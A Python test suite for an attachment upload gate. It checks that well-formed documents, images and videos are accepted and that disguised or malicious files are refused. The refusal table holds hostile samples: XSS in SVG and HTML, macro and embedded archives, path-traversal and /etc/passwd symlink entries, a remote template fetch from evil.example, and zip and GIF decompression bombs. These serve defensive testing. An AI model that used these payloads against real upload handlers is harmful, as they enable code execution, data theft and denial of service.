"""What may be attached: its name, its first bytes and its build agree, and nothing is unpacked that would be too much (H6)."""

from __future__ import annotations

import contextlib
import io
import random
import struct
import time
import zipfile

import pytest

from app.attachments.kinds import GATE
from app.core.errors import Invalid
from tests.attachments.things import box, film, office, picture
from tests.membership.papers import jpeg, pdf, png, zipped

GOOD = {
    "order.pdf": (pdf(), "application/pdf"), "order.docx": (office(), "wordprocessingml.document"),
    "calls.xlsx": (office("xlsx"), "spreadsheetml.sheet"), "talk.pptx": (office("pptx"), "presentationml.presentation"),
    "a.png": (picture("PNG"), "image/png"), "a.JPG": (picture("JPEG"), "image/jpeg"), "a.webp": (picture("WEBP"), "image/webp"),
    "a.gif": (picture("GIF"), "image/gif"),
    "notes.txt": ("Köln\tcafé\r\n".encode(), "text/plain"), "old.csv": (b"name;caf\xe9\r\n", "text/csv"),
    "night.mp4": (film(), "video/mp4"),
}  # fmt: skip


@pytest.mark.parametrize("name", GOOD)
def test_a_file_that_is_what_its_name_says_is_taken(name: str) -> None:
    data, media_type = GOOD[name]
    assert GATE.judged(name, data).media_type.endswith(media_type)


def _many() -> bytes:
    return office(parts={f"word/p{number}.xml": b"" for number in range(3_001)})


def _large() -> bytes:
    return office(parts={"word/a.xml": bytes(299_000_000)[:299_000_000], "word/b.xml": bytes(2_000_000)})


def _flagged(data: bytes, flag: int) -> bytes:
    """The same with a flag set in the directory's first entry."""
    at = data.index(b"PK\x01\x02")
    return data[: at + 8] + struct.pack("<H", flag) + data[at + 10 :]


def _linked() -> bytes:
    out = io.BytesIO(office())
    with zipfile.ZipFile(out, "a") as archive:
        entry = zipfile.ZipInfo("word/link.xml")
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return out.getvalue()


FETCHING = b'<Relationships><Relationship TargetMode="External" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm"/></Relationships>'
ENDLESS = b"<a>" + b"<Relationship TargetMode='External'/>" * 60_000 + b"</a>"
BAD = {  # name, bytes, words of the answer
    "a program": ("run.exe", b"MZ", "kind that is not taken"),
    "a page": ("page.html", b"<html>", "kind that is not taken"),
    "a drawing": ("x.svg", b"<svg onload=alert(1)>", "kind that is not taken"),
    "a drawing called PNG": ("x.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "not a PNG"),
    "a program called text": ("run.txt", b"MZ\x90\0\3", "not a text file"),
    "a page called text": ("run.txt", b"<html><script>alert(1)</script>", "another kind"),
    "binary called CSV": ("a.csv", b"a,b\n\0\1", "more than text"),
    "a ZIP called DOCX": ("a.docx", zipped(), "program"),
    "an Excel file called DOCX": ("a.docx", office("xlsx"), "damaged"),
    "cut short": ("a.docx", office()[:-30], "damaged"),
    "something behind it": ("a.docx", office() + b"MZ" * 40, "damaged"),
    "something before it": ("a.docx", office()[:4] + b"MZ" * 40 + office(), "damaged"),
    "macros": ("a.docx", office(parts={"word/vbaProject.bin": b"x"}), "program"),
    "a macro with another name": ("a.docx", office(parts={"word/x.xml": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}), "program"),
    "an archive in it": ("a.docx", office(parts={"word/a.zip": zipped()}), "another archive"),
    "an archive under another name": ("a.docx", office(parts={"word/media/a.png": zipped()}), "another file"),
    "an embedded file": ("a.xlsx", office("xlsx", {"xl/embeddings/a.xlsx": b"PK"}), "another file"),
    "a path": ("a.docx", office(parts={"../../etc/x.xml": b""}), "damaged"),
    "a path from the root": ("a.docx", office(parts={"/etc/x.xml": b""}), "damaged"),
    "a link": ("a.docx", _linked(), "damaged"),
    "encrypted": ("a.docx", _flagged(office(), 1), "encrypted"),
    "fetched from elsewhere, in another alphabet": (
        "a.docx", office(parts={"word/_rels/settings.xml.rels": FETCHING.decode().encode("utf-16")}), "fetches"),
    "relations without end": ("a.docx", office(parts={f"word/{n}.rels": ENDLESS for n in range(9)}), "damaged"),
    "a GIF of crumbs": ("a.gif", b"GIF89a\1\0\1\0\0\0\0,\0\0\0\0\1\0\1\0\0\2" + b"\1a" * 12_000_000, "damaged"),
    "fetched from elsewhere": ("a.docx", office(parts={"word/_rels/settings.xml.rels": FETCHING}), "fetches"),
    "too many parts": ("a.docx", _many(), "damaged"),
    "a bomb": ("a.docx", _large(), "unpacks to more"),
    "30,000 by 30,000": ("a.gif", b"GIF89a" + struct.pack("<HH", 30_000, 30_000) + picture("GIF")[10:], "too many points"),
    "a GIF cut short": ("a.gif", picture("GIF")[:-20], "damaged"),
    "a GIF with a ZIP behind it": ("a.gif", picture("GIF") + zipped(), "follows the end"),
    "a WebP cut short": ("a.webp", picture("WEBP")[:-20], "damaged|not a WebP"),
    "a film cut short": ("a.mp4", film()[:-20], "damaged"),
    "a film without its head": ("a.mp4", film()[28:], "not a MP4"),
    "a film with a page in it": ("a.mp4", film()[:28] + box(b"html", b"<script>") + film()[28:], "damaged"),
    "a phone's own kind of film": ("a.mp4", box(b"ftyp", b"qt  \0\0\0\0qt  ") + film()[28:], "not a MP4|don't play"),
}  # fmt: skip


@pytest.mark.parametrize("what", BAD)
def test_what_is_something_else_is_refused_in_words_and_in_time(what: str) -> None:  # H6
    name, data, words = BAD[what]
    started = time.perf_counter()
    with pytest.raises(Invalid, match=words) as refused:
        GATE.judged(name, data)
    assert set(refused.value.errors) == {"file"}
    assert time.perf_counter() - started < 1.5


def test_noise_and_what_was_changed_raise_nothing_but_a_refusal() -> None:  # H6
    dice = random.Random(7)
    for name, (data, _) in GOOD.items():
        for _ in range(40):
            changed = bytearray(data)
            for _ in range(dice.randint(1, 12)):
                changed[dice.randrange(len(changed))] = dice.randrange(256)
            cut = dice.randint(1, len(changed)) if dice.random() < 0.3 else len(changed)
            with contextlib.suppress(Invalid):
                GATE.judged(name, bytes(changed[:cut]))


def test_each_kind_has_a_size() -> None:  # H6
    for name, data, most in (("a.txt", b"x", 5_000_001), ("a.png", png(), 25_000_001), ("a.jpg", jpeg(), 25_000_001)):
        with pytest.raises(Invalid, match="is larger than"):
            GATE.judged(name, data + b"x" * most)
